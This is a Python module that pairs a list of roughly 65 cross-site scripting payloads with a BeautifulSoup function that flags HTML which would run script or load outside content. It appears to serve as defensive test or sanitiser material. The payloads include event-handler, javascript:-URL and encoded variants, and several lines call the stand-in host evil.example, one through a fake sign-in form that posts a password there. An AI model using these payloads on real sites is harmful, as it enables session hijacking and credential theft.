"""Texts with which somebody would have a page run a program, and what of a page would run one."""

import re
from collections.abc import Iterator, Sequence

from bs4 import BeautifulSoup

XSS: Sequence[str] = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=https://evil.example/x>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    '> [!NOTE" onclick="alert(1)]\n> x',
    "<div x-data='{a: alert(1)}' x-init='alert(1)' @click='alert(1)'>x</div>",
    "<div hx-get='https://evil.example' hx-trigger=load hx-on::load='alert(1)'>x</div>",
    "{{ request.user }}{% load static %}{% debug %}",
    "\u202e<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt;",
)
RUNS = (
    "script",
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "marquee",
    "math",
    "image",
    "isindex",
    "style",
)
RUNS_ON_PAGES = tuple(tag for tag in RUNS if tag not in ("script", "style"))
ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "srcset",
    "hx-get",
    "hx-post",
)
SAFE = ("/", "#", "?", "https://", "http://", "mailto:")
DRAWN = {"svg", "circle", "path", "rect", "line", "polyline", "g", "text", "title", "desc", "pattern", "defs"}


def live_parts(html: str, *, of_a_page: bool) -> Iterator[str]:
    """What in a piece of HTML, or in a page of ours, would run, load or lead where nothing of ours does."""
    soup = BeautifulSoup(html, "html.parser")
    refused = RUNS_ON_PAGES if of_a_page else (*RUNS, "svg", "form", "button", "video", "link")
    yield from (tag.name for tag in soup.find_all(refused))
    yield from (f"svg {tag.name}" for tag in soup.select("svg *") if tag.name not in DRAWN)
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            said = " ".join(value) if isinstance(value, list) else str(value)
            if _is_live(name, said):
                yield f"{tag.name} {name}={said}"
    for tag in soup.find_all("script"):
        is_ours = str(tag.get("src", "/static/")).startswith("/static/")
        if not is_ours or (tag.get_text().strip() and tag.get("type") != "application/json"):
            yield f"script {tag}"


def _is_live(name: str, said: str) -> bool:
    if name.startswith(("on", "hx-on", "@")) or name in ("style", "srcdoc", "http-equiv"):
        return True
    is_address = name in ADDRESSES
    return is_address and (not _is_safe(said) or ("evil.example" in said and name != "href"))


def _is_safe(address: str) -> bool:
    """Whether an address is one that leads somewhere, read as browsers do: without control characters."""
    told = "".join(one for one in address if one >= " ").strip().lower()
    return told.startswith(SAFE) or told == "" or re.match(r"[a-z][a-z0-9+.-]*:", told) is None
